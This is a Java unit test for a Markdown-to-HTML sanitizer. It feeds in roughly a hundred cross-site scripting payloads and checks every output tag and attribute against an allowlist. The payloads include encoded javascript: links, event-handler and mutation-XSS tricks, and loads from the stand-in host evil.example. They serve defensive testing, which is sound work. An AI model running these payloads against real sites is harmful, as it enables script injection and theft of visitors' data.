package org.gaceta.pages.body;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.Locale;
import java.util.Set;
import java.util.regex.Pattern;
import org.gaceta.pages.house.Messages;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// Each attack is rendered whole, and every tag and attribute that comes out is held against lists
/// that are written down here again.
class SanitizerTest {
  private static final Set<String> ELEMENTS =
      Set.of(
          "p",
          "h2",
          "h3",
          "h4",
          "h5",
          "h6",
          "blockquote",
          "hr",
          "br",
          "wbr",
          "pre",
          "ul",
          "ol",
          "li",
          "dl",
          "dt",
          "dd",
          "div",
          "em",
          "strong",
          "i",
          "b",
          "u",
          "s",
          "small",
          "mark",
          "sub",
          "sup",
          "del",
          "ins",
          "code",
          "kbd",
          "samp",
          "var",
          "q",
          "cite",
          "dfn",
          "abbr",
          "time",
          "span",
          "bdi",
          "bdo",
          "ruby",
          "rt",
          "rp",
          "a",
          "img",
          "figure",
          "figcaption",
          "table",
          "caption",
          "thead",
          "tbody",
          "tfoot",
          "tr",
          "th",
          "td");
  private static final Set<String> ATTRIBUTES =
      Set.of(
          "lang",
          "dir",
          "id",
          "title",
          "datetime",
          "cite",
          "start",
          "reversed",
          "value",
          "class",
          "href",
          "rel",
          "aria-label",
          "src",
          "alt",
          "width",
          "height",
          "data-frame",
          "data-title",
          "loading",
          "decoding",
          "sandbox",
          "referrerpolicy",
          "allow",
          "allowfullscreen",
          "colspan",
          "rowspan",
          "scope",
          "tabindex");
  private static final Pattern TAG = Pattern.compile("<(/?)([^\\s<>/]*)([^<>]*)>");
  private static final Pattern ATTRIBUTE = Pattern.compile("\\s+([^\\s=]+)=\"([^\"]*)\"");
  private static final Pattern ADDRESS =
      Pattern.compile("(?i)(?:https?:|mailto:|/|#text-|[^:]*$).*", Pattern.DOTALL);

  private final Markdown markdown = new Markdown(Messages.in(Locale.of("es")));

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script\u0000>alert(1)</script>",
        "<script/x>alert(1)</script\n>",
        "<img src=x onerror=alert(1)>",
        "<img src=/x.png onerror=\"alert(1)\">",
        "<img/src=/x.png/onload=alert(1)>",
        "<img src=\"/x.png\"onerror=alert(1)//",
        "<img src=`/x`onerror=alert(1)>",
        "<img src=\"javascript:alert(1)\">",
        "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
        "<img src=\"//evil.example/x.png\">",
        "<img src=\"/\\evil.example/x.png\">",
        "<img srcset=\"https://evil.example/x 2x\" src=\"/a.png\">",
        "<img src=\"/a.png\" usemap=\"#m\" ismap crossorigin>",
        "![x](javascript:alert(1))",
        "![x](\"onerror=\"alert(1))",
        "![\"onerror=\"alert(1)](/x.png)",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\" \u0001javascript:alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"java&#10;script:alert(1)\">x</a>",
        "<a href=\"&#106;avascript&colon;alert(1)\">x</a>",
        "<a href=\"javascript&#58alert(1)\">x</a>",
        "<a href=\"vbscript:x\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
        "<a href=\"blob:https://x\">x</a>",
        "<a href=\"file:///etc/passwd\">x</a>",
        "<a href=\"/x\" onclick=\"alert(1)\" style=\"position:fixed\">x</a>",
        "<a href=\"/x\" target=\"_blank\" ping=\"//evil.example\" download>x</a>",
        "[x](javascript:alert(1))",
        "[x](javascript&#x3a;alert(1))",
        "[x](<java\nscript:alert(1)>)",
        "[x]: javascript:alert(1)\n\n[x]",
        "<javascript:alert(1)>",
        "<data:text/html,x>",
        "[x](/a \"b\" onclick=alert(1))",
        "[x](/a '\"><script>alert(1)</script>')",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<math href=\"javascript:alert(1)\">x</math>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
        "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<style><!--</style><img src=x onerror=alert(1)>-->",
        "<p style=\"background:url(javascript:alert(1))\">x</p>",
        "<p class=\"masthead\">x</p>",
        "<section class=\"footnotes skip\">x</section>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "<base href=\"https://evil.example/\">",
        "<form action=\"https://evil.example\"><input name=p><button>x</button></form>",
        "<button formaction=\"javascript:alert(1)\">x</button>",
        "<input autofocus onfocus=alert(1)>",
        "<select autofocus onfocus=alert(1)><option>x</select>",
        "<object data=\"x.swf\"></object><embed src=\"x.swf\"><applet code=x>",
        "<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)>",
        "<details open ontoggle=alert(1)><summary>x</summary></details>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<body onload=alert(1)>x</body>",
        "<html onmouseover=alert(1)>x",
        "<frameset onload=alert(1)><frame src=\"javascript:alert(1)\">",
        "<template><script>alert(1)</script></template>",
        "<slot name=x></slot><x-widget onclick=alert(1)>x</x-widget>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<iframe src=\"https://www.youtube-nocookie.com.evil.example/embed/a\"></iframe>",
        "<iframe src=\"https://www.youtube-nocookie.com/embed/../redirect?q=x\"></iframe>",
        "<iframe src=\"https://www.youtube-nocookie.com@evil.example/embed/a\"></iframe>",
        "<iframe src=\"https://www.youtube.com/embed/a\"></iframe>",
        "<iframe src=\"http://player.vimeo.com/video/1\"></iframe>",
        "<iframe src=\"//player.vimeo.com/video/1\"></iframe>",
        "<iframe src=\"https://player.vimeo.com/video/1\" sandbox=\"allow-top-navigation\""
            + " onload=x>",
        "<iframe src=\"https://player.vimeo.com/video/1\"><script>alert(1)</script></iframe>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
        "<!DOCTYPE html [<!ENTITY x \"<script>\">]>&x;",
        "<<img src=x onerror=alert(1)>",
        "<img src=\"/a.png\" alt=\"><script>alert(1)</script>\">",
        "<abbr title=\"&quot;onmouseover=alert(1)\">x</abbr>",
        "<time datetime=\"&quot; onclick=alert(1)\">x</time>",
        "<p lang='es\" onclick=\"x'>x</p>",
        "<p id='x\" onclick=\"x'>x</p>",
        "```\" onclick=\"alert(1)\ncode\n```",
        "`<script>alert(1)</script>`",
        "    <script>alert(1)</script>",
        "|<script>|\n|-|\n|<img src=x onerror=alert(1)>|",
        "[^<script>]\n\n[^<script>]: <img src=x onerror=alert(1)>",
        "[^\"onclick=x]\n\n[^\"onclick=x]: x",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "\\<script>alert(1)</script>",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "<p>\u2028<script>alert(1)</script>",
        "{{constructor.constructor('alert(1)')()}}",
      })
  void letsNothingThroughThatRuns(String attack) {
    var html = markdown.html(attack).text();
    TAG.matcher(html).results().forEach(it -> assertAllowed(it.group(2), it.group(3), html));
    var rest = TAG.matcher(html).replaceAll("").replace("<!-- -->", "");
    assertTrue(rest.indexOf('<') < 0 && rest.indexOf('>') < 0, html);
  }

  @Test
  void keepsIdsApartFromThoseOfThePage() {
    assertEquals("<p id=\"text-content\">a</p>", markdown.html("<p id=\"content\">a</p>").text());
    assertEquals("<p><a href=\"#text-content\">a</a></p>", markdown.html("[a](#content)").text());
    assertEquals("<p>a</p>", markdown.html("<p name=\"body\" id=\"a b\">a</p>").text());
  }

  @Test
  void dropsWhatRunsWithItsTextAndUnwrapsTheRest() {
    assertEquals("<p>a</p>", markdown.html("<p><script>b</script>a</p>").text());
    assertEquals("<p>ba</p>", markdown.html("<p><button>b</button>a</p>").text());
  }

  private static void assertAllowed(String element, String attributes, String html) {
    if (element.equals("!--")) {
      assertEquals(" --", attributes, html);
      return;
    }
    assertTrue(ELEMENTS.contains(element), html);
    ATTRIBUTE
        .matcher(attributes)
        .results()
        .forEach(it -> {
          assertTrue(ATTRIBUTES.contains(it.group(1)), html);
          if (Set.of("href", "src", "cite").contains(it.group(1))) {
            assertTrue(ADDRESS.matcher(it.group(2)).matches(), html);
          }
        });
    var unread = ATTRIBUTE.matcher(attributes).replaceAll("").strip();
    assertTrue(unread.isEmpty() || unread.equals("/"), html);
    if (attributes.contains("data-frame")) {
      assertTrue(attributes.contains(" data-frame=\"https://"), html);
    }
  }
}
